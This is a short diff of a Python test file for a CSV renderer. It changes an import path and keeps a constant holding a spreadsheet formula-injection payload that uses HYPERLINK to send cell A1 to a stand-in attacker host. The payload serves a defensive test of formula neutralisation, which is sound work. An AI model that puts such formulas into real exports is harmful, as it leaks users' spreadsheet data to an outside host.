@@ -8,7 +8,7 @@ import io
 import pytest
 from rest_framework.test import APIClient
 
-from llmregistry.api.renderers import ListCSVRenderer, neutralise_formula
+from core.api.renderers import ListCSVRenderer, neutralise_formula
 from tests import factories
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
